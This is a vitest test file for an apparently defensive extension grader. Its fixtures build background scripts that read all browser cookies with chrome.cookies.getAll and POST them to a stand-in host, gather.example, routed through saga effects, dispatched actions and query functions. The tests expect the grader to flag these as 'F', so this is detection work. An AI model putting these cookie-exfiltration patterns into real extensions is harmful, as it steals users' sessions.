import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What libraries do with functions that they are only told of: effects of a saga, the function behind a query. */

const LIBRARY = `
  const effect = (kind) => (...args) => ({ kind, args });
  const call = effect('call'), every = effect('every'), take = effect('take');
  const run = (saga) => { self.later.push(saga); };
  const store = { dispatch: (action) => self.later.push(action) };
  class Client { ask(options) { return self.later.ask(options); } }
  const send = (x) => fetch('https://gather.example/c', { method: 'POST', body: JSON.stringify(x) });`;

it.each([
  ['what a called function gives', 'run(function* () { const x = yield call(read); send(x); });'],
  ['what a called function is given', 'run(function* () { yield call(send, yield call(read)); });'],
  [
    'a listener for what is dispatched',
    "run(function* () { yield every('got', function* ({ x }) { yield call(send, x); }); }); read().then((x) => store.dispatch({ type: 'got', x }));",
  ],
  [
    'a turn that waits for what is dispatched',
    "run(function* () { for (;;) { const { x } = yield take('got'); send(x); } }); read().then((x) => store.dispatch({ type: 'got', x }));",
  ],
  [
    'what a query gives',
    "(async () => { const x = await new Client().ask({ queryKey: ['all'], queryFn: read }); send(x); })();",
  ],
  [
    'what a query holds as data',
    "(async () => { const q = new Client().ask({ queryKey: ['all'], queryFn: () => read() }); send(q.data); })();",
  ],
])('follows %s', async (_name, code) => {
  const background = (read: string): string => `${LIBRARY} const read = async () => ${read}; ${code}`;
  expect(await graded({ background: background('chrome.cookies.getAll({})') })).toBe('F');
  expect(await graded({ background: background('1') })).toMatch(/^A/);
});

it('keeps events of other names apart', async () => {
  const background = `${LIBRARY} run(function* () { yield every('other', function* ({ x }) { yield call(send, x); }); });
    chrome.cookies.getAll({}).then((x) => store.dispatch({ type: 'got', x }));`;
  expect(await graded({ background })).toMatch(/^[AB]/);
});
